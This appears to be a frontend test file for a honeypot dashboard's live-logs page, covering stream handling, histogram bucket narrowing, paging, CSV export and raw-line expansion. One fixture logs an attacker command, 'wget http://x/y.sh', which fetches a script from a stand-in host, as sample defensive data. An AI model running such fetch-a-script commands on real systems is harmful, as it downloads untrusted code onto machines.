import { act, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { useLocation } from 'react-router-dom';
import { describe, expect, it, vi } from 'vitest';
import { FakeEventSource } from '../test/eventSource';
import { fetchMock } from '../test/fetchMock';
import { renderAt } from '../test/render';
import LiveLogs from './LiveLogs';

const row = (id: string, ip: string) => ({ id: 1, event_id: id, timestamp: '2026-11-26T10:00:00Z', decky: 'd1', service: 'ssh', event_type: 'command', attacker_ip: ip, msg: 'm' });

/** mockAPI answers the page's calls; it returns the start (ms) of the hour holding the 7-event bucket. */
function mockAPI(): number {
  fetchMock.on('GET', '/logs', { data: [row('e1', '203.0.113.7')], total: 120, limit: 50, offset: 0 });
  const now = Math.floor(Date.now() / 3600e3) * 3600e3;
  const hour = (h: number) => new Date(now - h * 3600e3).toISOString();
  fetchMock.on('GET', '/logs/histogram', [
    { time: hour(2), count: 3 },
    { time: hour(1), count: 7 },
  ]);
  fetchMock.on('POST', '/auth/sse-ticket', { ticket: 'tk', expires_in: 60 });
  return now - 3600e3;
}

/** Where shows the router's query string, so tests can read the URL state. */
function Where() {
  return <output data-testid="where">{useLocation().search}</output>;
}
const urlParams = () => new URLSearchParams(screen.getByTestId('where').textContent ?? '');
const lastCall = (path: string) => fetchMock.calls('GET', path).at(-1)!;
const iso = (ms: number) => new Date(ms).toISOString();
const clock = (ms: number) => iso(ms).slice(11, 16);

/** tabToHistogram moves focus by keyboard from the range select to the histogram's tab stop. */
async function tabToHistogram(user: ReturnType<typeof userEvent.setup>) {
  await user.click(screen.getByLabelText('Time range'));
  for (let i = 0; i < 4 && !document.activeElement?.classList.contains('hist-bar'); i++) await user.tab();
  expect(document.activeElement).toHaveClass('hist-bar');
}

describe('LiveLogs', () => {
  it('queries with the URL state, draws the server histogram and prepends live rows', async () => {
    mockAPI();
    renderAt(<LiveLogs />, '/live-logs?q=service:ssh&time=24h');
    expect(await screen.findByText('203.0.113.7')).toBeInTheDocument();
    const logs = fetchMock.calls('GET', '/logs')[0]!;
    expect(logs.query.get('search')).toBe('service:ssh');
    expect(logs.query.get('limit')).toBe('50');
    const start = Date.parse(logs.query.get('start_time')!);
    expect(Date.now() - start).toBeGreaterThan(23.9 * 3600e3);
    expect(fetchMock.calls('GET', '/logs/histogram')[0]!.query.get('interval_minutes')).toBe('60');
    // 24 hourly bars (25 when the window straddles an hour boundary), two of them non-empty.
    const bars = [...screen.getByTestId('histogram').children] as HTMLElement[];
    expect(bars.length).toBeGreaterThanOrEqual(24);
    expect(bars.length).toBeLessThanOrEqual(25);
    expect(screen.getByText(/PEAK 7/)).toBeInTheDocument();

    await vi.waitFor(() => expect(FakeEventSource.instances).toHaveLength(1));
    const es = FakeEventSource.latest();
    expect(es.url).toContain('search=service%3Assh');
    expect(es.url).toContain('interval_minutes=60');
    act(() => {
      es.open();
      es.message({ type: 'logs', data: [row('e2', '198.51.100.9')] }, '7');
      es.message({ type: 'histogram', data: [{ time: '2026-11-26T10:00:00Z', count: 8 }] });
    });
    expect(screen.getByText('198.51.100.9')).toBeInTheDocument();
    expect(screen.getByText(/PEAK 8/)).toBeInTheDocument();
  });

  it('pauses the stream, exports the page as CSV and searches from the box', async () => {
    const user = userEvent.setup();
    mockAPI();
    const created: Blob[] = [];
    vi.stubGlobal('URL', Object.assign(URL, { createObjectURL: (b: Blob) => (created.push(b), 'blob:x'), revokeObjectURL: () => undefined }));
    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
    renderAt(<LiveLogs />, '/live-logs');
    await screen.findByText('203.0.113.7');
    await vi.waitFor(() => expect(FakeEventSource.instances).toHaveLength(1));
    await user.click(screen.getByRole('button', { name: /PAUSE/ }));
    expect(FakeEventSource.latest().readyState).toBe(2);
    expect(screen.getByRole('button', { name: /GO LIVE/ })).toBeInTheDocument();

    await user.click(screen.getByRole('button', { name: /EXPORT CSV/ }));
    expect(click).toHaveBeenCalledOnce();
    const text = await created[0]!.text();
    expect(text.split('\r\n')[0]).toBe('timestamp,decky,service,attacker_ip,event_type,msg');
    expect(text).toContain('"203.0.113.7"');

    await user.type(screen.getByLabelText('Log query'), 'attacker:203.0.113.7{Enter}');
    await vi.waitFor(() => expect(fetchMock.calls('GET', '/logs').some((c) => c.query.get('search') === 'attacker:203.0.113.7')).toBe(true));
  });

  it('pages with offset and stops the live stream off the first page', async () => {
    const user = userEvent.setup();
    mockAPI();
    renderAt(<LiveLogs />, '/live-logs');
    await screen.findByText('203.0.113.7');
    await user.click(screen.getByRole('button', { name: 'Next page' }));
    await vi.waitFor(() => expect(fetchMock.calls('GET', '/logs').some((c) => c.query.get('offset') === '50')).toBe(true));
    expect(screen.getByText(/STREAM PAUSED/)).toBeInTheDocument();
  });
  it('narrows the range to a histogram bucket by click and by keyboard, and clears back to the range', async () => {
    const user = userEvent.setup();
    const h1 = mockAPI();
    renderAt(
      <>
        <LiveLogs />
        <Where />
      </>,
      '/live-logs?time=24h',
    );
    await screen.findByText('203.0.113.7');
    await vi.waitFor(() => expect(FakeEventSource.instances).toHaveLength(1));
    const day = iso(h1).slice(0, 10);

    // The histogram is one tab stop, the newest bar; arrows, Home and End move along it.
    const hist = screen.getByTestId('histogram');
    const all = within(hist).getAllByRole('button');
    expect(all.filter((b) => b.tabIndex === 0)).toEqual([all.at(-1)]);
    await tabToHistogram(user);
    expect(all.at(-1)).toHaveFocus();
    await user.keyboard('{Home}');
    expect(all[0]).toHaveFocus();
    await user.keyboard('{ArrowRight}');
    expect(all[1]).toHaveFocus();
    expect(all[1]).toHaveAttribute('tabindex', '0');
    expect(all.at(-1)).toHaveAttribute('tabindex', '-1');
    await user.keyboard('{ArrowLeft}{ArrowLeft}');
    expect(all[0]).toHaveFocus();
    await user.keyboard('{End}');
    expect(all.at(-1)).toHaveFocus();

    // Click: the hour bucket becomes the window, in the URL and in every query.
    const bar = screen.getByRole('button', { name: /: 7 events$/ });
    expect(bar).toHaveAccessibleName(`Narrow to ${day} ${clock(h1)}–${iso(h1 + 3600e3).slice(0, 10) === day ? '' : `${iso(h1 + 3600e3).slice(0, 10)} `}${clock(h1 + 3600e3)} UTC: 7 events`);
    await user.click(bar);
    expect(urlParams().get('from')).toBe(iso(h1));
    expect(urlParams().get('to')).toBe(iso(h1 + 3600e3));
    expect(urlParams().get('time')).toBe('24h');
    await vi.waitFor(() => expect(lastCall('/logs').query.get('end_time')).toBe(`${iso(h1 + 3600e3 - 1000).slice(0, 19)}.999999Z`));
    expect(lastCall('/logs').query.get('start_time')).toBe(iso(h1));
    expect(lastCall('/logs/histogram').query.get('start_time')).toBe(iso(h1));
    expect(lastCall('/logs/histogram').query.get('end_time')).toBe(lastCall('/logs').query.get('end_time'));
    expect(lastCall('/logs/histogram').query.get('interval_minutes')).toBe('5');
    // A past window is not live.
    expect(FakeEventSource.latest().readyState).toBe(2);
    expect(screen.getByText(/STREAM PAUSED/)).toBeInTheDocument();
    expect(screen.getByText(/^WINDOW /)).toBeInTheDocument();
    // Twelve 5-minute bars; the first holds the 7 events.
    await vi.waitFor(() => expect(screen.getByTestId('histogram').children).toHaveLength(12));

    // Keyboard: Home to the first bar, Enter narrows to its 5 minutes, 1-minute bars.
    const five = screen.getByRole('button', { name: new RegExp(`Narrow to ${day} ${clock(h1)}–${clock(h1 + 300e3)} UTC: 7 events`) });
    await tabToHistogram(user);
    await user.keyboard('{Home}');
    expect(five).toHaveFocus();
    await user.keyboard('{Enter}');
    expect(urlParams().get('to')).toBe(iso(h1 + 300e3));
    await vi.waitFor(() => expect(lastCall('/logs/histogram').query.get('interval_minutes')).toBe('1'));
    await vi.waitFor(() => expect(screen.getByTestId('histogram').children).toHaveLength(5));
    // Space works too; a one-minute window cannot be narrowed further.
    await tabToHistogram(user);
    await user.keyboard('{Home}');
    expect(screen.getByRole('button', { name: /: 7 events$/ })).toHaveFocus();
    await user.keyboard(' ');
    expect(urlParams().get('to')).toBe(iso(h1 + 60e3));
    await vi.waitFor(() => expect(screen.getByTestId('histogram').children).toHaveLength(1));
    expect(within(screen.getByTestId('histogram')).queryByRole('button')).toBeNull();
    expect(within(screen.getByTestId('histogram')).getByRole('img', { name: /: 7 events$/ })).toBeInTheDocument();
    await screen.findByText('203.0.113.7');

    await user.click(screen.getByRole('button', { name: /CLEAR WINDOW/ }));
    expect(urlParams().get('from')).toBeNull();
    expect(urlParams().get('time')).toBe('24h');
    await vi.waitFor(() => expect(FakeEventSource.instances).toHaveLength(2));
    expect(lastCall('/logs').query.get('end_time')).toBeNull();
    expect(lastCall('/logs/histogram').query.get('interval_minutes')).toBe('60');
    await screen.findByText(/STREAM (LIVE|CONNECTING)/);
  });

  it('reads a window from the URL, and the range select leaves it', async () => {
    const user = userEvent.setup();
    mockAPI();
    renderAt(
      <>
        <LiveLogs />
        <Where />
      </>,
      '/live-logs?time=24h&from=2026-11-26T10:00:00.000Z&to=2026-11-26T11:00:00.000Z',
    );
    await screen.findByText('203.0.113.7');
    const logs = lastCall('/logs');
    expect(logs.query.get('start_time')).toBe('2026-11-26T10:00:00.000Z');
    expect(logs.query.get('end_time')).toBe('2026-11-26T10:59:59.999999Z');
    expect(lastCall('/logs/histogram').query.get('interval_minutes')).toBe('5');
    expect(screen.getByText('WINDOW 2026-11-26 10:00–11:00 UTC')).toBeInTheDocument();
    expect(screen.getByText('ATTACK VOLUME — 2026-11-26 10:00–11:00 UTC')).toBeInTheDocument();
    expect(screen.getByTestId('histogram').children).toHaveLength(12);
    expect(FakeEventSource.instances).toHaveLength(0);
    expect(fetchMock.calls('POST', '/auth/sse-ticket')).toHaveLength(0);

    await user.selectOptions(screen.getByLabelText('Time range'), '15m');
    expect(urlParams().toString()).toBe('time=15m');
    await vi.waitFor(() => expect(FakeEventSource.instances).toHaveLength(1));
    await vi.waitFor(() => expect(lastCall('/logs/histogram').query.get('interval_minutes')).toBe('1'));
    expect(lastCall('/logs').query.get('end_time')).toBeNull();
    await screen.findByText(/STREAM (LIVE|CONNECTING)/);
  });

  it('leaves a window with GO LIVE', async () => {
    const user = userEvent.setup();
    mockAPI();
    renderAt(
      <>
        <LiveLogs />
        <Where />
      </>,
      '/live-logs?from=2026-11-26T10:00:00.000Z&to=2026-11-26T10:05:00.000Z',
    );
    await screen.findByText('203.0.113.7');
    expect(lastCall('/logs/histogram').query.get('interval_minutes')).toBe('1');
    await user.click(screen.getByRole('button', { name: /GO LIVE/ }));
    expect(urlParams().toString()).toBe('');
    await vi.waitFor(() => expect(FakeEventSource.instances).toHaveLength(1));
    await vi.waitFor(() => expect(lastCall('/logs').query.get('end_time')).toBeNull());
    await screen.findByRole('button', { name: /PAUSE/ });
  });

  it('expands one row at a time to its raw line and every field', async () => {
    const user = userEvent.setup();
    const raw = '<13>1 2026-11-26T10:00:00Z d1 ssh - command [decnet@55555 cmd="wget http://x/y.sh"] m';
    fetchMock.on('GET', '/logs', {
      data: [
        { ...row('e1', '203.0.113.7'), session_id: 's-7', raw_line: raw, fields: { user: 'root', cmd: 'wget http://x/y.sh', meta_json_b64: 'eyJ9' } },
        { ...row('e2', '198.51.100.9'), event_type: 'login', raw_line: '<13>1 second line', fields: {} },
      ],
      total: 2,
      limit: 50,
      offset: 0,
    });
    fetchMock.on('GET', '/logs/histogram', []);
    renderAt(<LiveLogs />, '/live-logs?live=0');
    await screen.findByText('203.0.113.7');
    expect(screen.queryByTestId('log-detail')).toBeNull();

    // A click anywhere on the row (not on its link) opens it.
    const [, first] = screen.getAllByRole('row');
    await user.click(first!);
    const detail = await screen.findByTestId('log-detail');
    expect(within(detail).getByLabelText('Raw log line')).toHaveTextContent(raw);
    const fields = within(detail).getByLabelText('Event fields');
    // Every field, transport ones included, sorted by key.
    expect(within(fields).getAllByRole('term').map((t) => t.textContent)).toEqual(['cmd', 'meta_json_b64', 'user']);
    expect(within(fields).getAllByRole('definition').map((d) => d.textContent)).toEqual(['wget http://x/y.sh', 'eyJ9', 'root']);
    expect(detail).toHaveTextContent('FIELDS · 3');
    expect(detail).toHaveTextContent('s-7');
    const toggle1 = screen.getByRole('button', { name: 'Details of command at 2026-11-26 10:00:00 from 203.0.113.7' });
    expect(toggle1).toHaveAttribute('aria-expanded', 'true');
    expect(toggle1).toHaveAttribute('aria-controls', detail.parentElement!.id);

    await user.click(within(detail).getByRole('button', { name: /COPY/ }));
    expect(await screen.findByText('RAW LINE COPIED')).toBeInTheDocument();
    expect(await navigator.clipboard.readText()).toBe(raw);

    // Enter on the other row's toggle opens it and closes the first.
    const toggle2 = screen.getByRole('button', { name: 'Details of login at 2026-11-26 10:00:00 from 198.51.100.9' });
    toggle2.focus();
    await user.keyboard('{Enter}');
    expect(screen.getAllByTestId('log-detail')).toHaveLength(1);
    expect(toggle1).toHaveAttribute('aria-expanded', 'false');
    expect(toggle2).toHaveAttribute('aria-expanded', 'true');
    expect(screen.getByLabelText('Raw log line')).toHaveTextContent('<13>1 second line');
    expect(screen.getByText('No structured fields.')).toBeInTheDocument();

    await user.keyboard(' ');
    expect(screen.queryByTestId('log-detail')).toBeNull();
    expect(toggle2).toHaveAttribute('aria-expanded', 'false');
  });
});

describe('time windows', () => {
  it('parses only a non-empty interval and picks a bar width for it', async () => {
    const { parseWindow, windowBucket, inclusiveEnd } = await import('./LiveLogs');
    expect(parseWindow('', '')).toBeNull();
    expect(parseWindow('garbage', '2026-11-26T10:00:00Z')).toBeNull();
    expect(parseWindow('2026-11-26T10:00:00Z', '2026-11-26T10:00:00Z')).toBeNull();
    const w = parseWindow('2026-11-26T10:00:00Z', '2026-11-26T11:00:00Z')!;
    expect(w.to - w.from).toBe(3600e3);
    expect(windowBucket({ from: 0, to: 86400e3 })).toBe(60);
    expect(windowBucket(w)).toBe(5);
    expect(windowBucket({ from: 0, to: 300e3 })).toBe(1);
    expect(windowBucket({ from: 0, to: 60e3 })).toBe(1);
    expect(inclusiveEnd(Date.parse('2026-11-26T11:00:00Z'))).toBe('2026-11-26T10:59:59.999999Z');
  });
});

describe('fillBuckets', () => {
  it('fills the range with empty buckets aligned to the interval', async () => {
    const { fillBuckets } = await import('./LiveLogs');
    const now = Date.parse('2026-11-26T10:07:00Z');
    const out = fillBuckets([{ time: '2026-11-26T10:00:00Z', count: 4 }], '2026-11-26T09:52:00Z', 5, now);
    expect(out.map((b) => [b.time.slice(11, 16), b.count])).toEqual([
      ['09:50', 0],
      ['09:55', 0],
      ['10:00', 4],
      ['10:05', 0],
    ]);
    expect(fillBuckets([{ time: 'x', count: 1 }], undefined, 5, now)).toHaveLength(1);
  });
});
